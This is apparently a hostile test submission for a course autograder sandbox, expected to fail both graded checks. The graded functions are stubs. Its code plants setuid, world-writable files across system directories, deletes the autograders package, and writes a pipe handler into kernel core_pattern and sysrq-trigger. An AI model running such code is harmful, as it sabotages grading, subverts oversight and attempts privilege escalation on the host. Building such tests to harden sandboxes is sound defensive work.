"""Files written, removed and made executable wherever the file system can be written."""
# loses: check_bill_cents check_price_tag
# %% + first
import autograders, os, shutil, stat
COURSE = os.path.dirname(os.path.dirname(autograders.__file__))
for place in ("/", "/tmp", "/var/tmp", "/dev/shm", "/root", os.path.dirname(COURSE), COURSE, f"{COURSE}/autograders", f"{COURSE}/tests", "/usr/local/bin", "/etc",
              "/run", "/proc/sys/kernel", "/dev", "/proc/1", "/sys", "/proc/self/root/tmp", "/home", os.path.dirname(os.__file__)):
    try:
        with open(f"{place}/labs-attack-file", "w") as file:
            file.write("x")
        os.chmod(f"{place}/labs-attack-file", stat.S_ISUID | 0o777)
    except OSError:
        pass
for package in list(autograders.__path__):
    shutil.rmtree(package, ignore_errors=True)
for path in ("/proc/sys/kernel/core_pattern", "/proc/sysrq-trigger", "/proc/self/oom_score_adj", "/proc/1/oom_score_adj"):
    try:
        open(path, "w").write("|/tmp/labs-attack-file")
        print("written", path)
    except OSError:
        pass
# %% bill_cents
def bill_cents(plan, dishes):
    return 0
# %% price_tag
def price_tag(cents):
    return ""
